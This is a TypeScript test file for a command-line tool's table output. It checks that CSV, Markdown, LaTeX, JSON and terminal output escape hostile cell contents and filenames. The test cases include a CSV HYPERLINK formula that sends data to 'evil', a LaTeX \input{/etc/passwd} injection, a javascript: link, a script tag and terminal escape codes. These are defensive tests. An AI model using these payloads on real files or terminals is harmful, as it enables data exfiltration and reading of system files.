import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { plainTable } from '../../src/cli/plain-table.ts';
import { type Format, TABLE_FORMATS } from '../../src/cli/table-formats.ts';
import { tableOf } from '../../src/tables/document.ts';
import { adderscope } from '../support/command-line.ts';
import { runCommand } from '../support/run-command.ts';

const FORMATS = Object.keys(TABLE_FORMATS).filter((name): name is Format =>
  Object.hasOwn(TABLE_FORMATS, name),
);

/** A table of one column, heading and title of the same text. */
function written(format: Format, ...cells: (string | number)[]): string {
  const rows = cells.map((cell) => ({ cell }));
  const table = tableOf('rows', String(cells[0]), rows, [['cell', (row) => row.cell]]);
  return TABLE_FORMATS[format]({ facts: {}, tables: [table], notes: [String(cells[0])] });
}

describe('a cell is text, whatever it holds', () => {
  test.each([
    ['=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
    ['+cmd', "'+cmd"],
    ['-cmd', "'-cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\uff1dA1', "'\uff1dA1"],
    ['\t=A1', '\\u{9}=A1'],
    ['\r=A1', '\\u{d}=A1'],
    ['x;=A1', '"x;=A1"'],
    ['a,b', '"a,b"'],
    ['-6', '-6'],
    ['-1.5e-7', '-1.5e-7'],
    ['+.5', '+.5'],
    ['-inf', '-inf'],
    ['-6+cmd', "'-6+cmd"],
    ['0xff', '0xff'],
  ])('csv: %j', (text, line) => {
    expect(written('csv', text)).toBe(`cell\n${line}\n`);
  });

  test.each([
    ['<script>', '&lt;script>'],
    ['&lt;script>', '&amp;lt;script>'],
    ['a & b', 'a & b'],
    ['[x](javascript:alert(1))', '[x]\\(javascript:alert(1))'],
    ['a|b', 'a\\|b'],
    ['a\\|b', 'a\\\\\\|b'],
    ['a\n\n# b', 'a\\u{a}\\u{a}# b'],
  ])('md: %j', (text, cell) => {
    const lines = written('md', text).split('\n');
    expect(lines).toHaveLength(6);
    expect(lines[4]?.trim()).toBe(`| ${cell.padEnd(4)} |`);
    expect(lines[0]).not.toContain('<');
  });

  test.each([
    ['\\input{/etc/passwd} $x$ %c', '\\textbackslash{}input\\{/etc/passwd\\} \\$x\\$ \\%c'],
    ['a\n\\end{tabular}', 'a\\textbackslash{}u\\{a\\}\\textbackslash{}end\\{tabular\\}'],
    ['[2pt]', '{[}2pt]'],
    ['*x', '{*}x'],
    [
      'a & b # c_d ^ ~ < > |',
      'a \\& b \\# c\\_d \\textasciicircum{} \\textasciitilde{} \\textless{} \\textgreater{} \\textbar{}',
    ],
  ])('latex: %j', (text, cell) => {
    const lines = written('latex', text).split('\n');
    expect(lines).toHaveLength(9);
    expect(lines[0]).toMatch(/^% /);
    expect(lines[5]).toBe(`  ${cell} \\\\`);
  });

  test.each(FORMATS)('%s: no text breaks a row or reaches a terminal', (format) => {
    const lines = written(format, 'x').split('\n').length;
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const out = written(format, text);
        expect(out.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
        expect(out.split('\n')).toHaveLength(lines);
      }),
      { seed: 13 },
    );
  });

  test.each(['json', 'ndjson'] as const)('%s says the same as the data', (format) => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (cell) => {
        const data: unknown = JSON.parse(written(format, cell));
        expect(data).toEqual(format === 'json' ? { rows: [{ cell }] } : { cell });
      }),
      { seed: 13 },
    );
  });
});

test('columns of a terminal are as wide as what is seen', () => {
  const rows = [
    ['net', 'n'],
    ['乘法器', '1'],
    ['é', '-20'],
    ['e\u0301\u{1f600}', '3'],
  ];
  expect(plainTable(rows, ['left', 'right'])).toBe(
    ['net       n', '乘法器    1', 'é       -20', 'e\u0301\u{1f600}       3'].join('\n'),
  );
  expect(
    plainTable(
      [
        ['a', 'b'],
        ['', ''],
      ],
      ['left', 'left'],
    ),
  ).toBe('a  b\n');
});

test.each(['table', 'md'] as const)('%s: a long cell does not widen every row', (format) => {
  const cells = ['x'.repeat(100_000), ...Array.from({ length: 100 }, () => 'y')];
  const rows = cells.map((cell) => ({ cell }));
  const columns = ['a', 'b'].map((name) => [name, (row: { cell: string }) => row.cell] as const);
  const out = TABLE_FORMATS[format]({ facts: {}, tables: [tableOf('rows', 'Rows', rows, columns)] });
  expect(out.length).toBeLessThan(500_000);
});

describe('what files are called, and what they hold', () => {
  let folder = '';
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'adderscope-'));
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  const cases = [
    'csv-md-latex/csv.blif',
    'csv-md-latex/latex.yosys.json',
    'csv-md-latex/md.yosys.json',
    'csv-md-latex/nl.yosys.json',
    'terminal-escapes/ansi.yosys.json',
    'terminal-escapes/name.v',
  ];
  test.each(cases.flatMap((name) => FORMATS.map((format) => [name, format] as const)))(
    '%s as %s',
    async (name, format) => {
      const path = `test/fixtures/cases/${name}`;
      const { code, data } = await runCommand('recover', path, '--format', format);
      expect(code).toBe(0);
      expect(data.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
      if (format === 'csv') expect(data).not.toMatch(/(^|,)"?[=+@]/m);
      if (format === 'md') expect(data).not.toMatch(/<script|\]\(/);
      const plain = await runCommand(
        'recover',
        'dadda-multiplier',
        '--i',
        '1',
        '--j',
        '1',
        '--format',
        format,
      );
      expect(data.split('\n')).toHaveLength(plain.data.split('\n').length);
    },
  );

  test('an error tells of escape codes by their numbers', () => {
    const { code, stderr } = adderscope('recover', 'test/fixtures/cases/terminal-escapes/err.v');
    expect(code).toBe(2);
    expect(stderr).toContain("'\\u{1b}]0;owned\\u{7}");
    expect(stderr.trimEnd()).not.toMatch(/[\p{Cc}]/u);
  });

  test('the name of a file is data too', async () => {
    const path = join(folder, '\u001b[2J<b>|x.v');
    writeFileSync(path, 'module m(input a, output y);\nassign y = a;\nendmodule\n');
    for (const format of FORMATS) {
      const { data } = await runCommand('recover', path, '--format', format);
      expect(data.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u);
    }
    const { stderr } = adderscope('recover', join(folder, '\u001b[2J\nERROR: none'));
    expect(stderr.trimEnd()).not.toMatch(/\p{Cc}/u);
    expect(stderr).toContain('\\u{1b}[2J\\u{a}ERROR: none');
  });
});
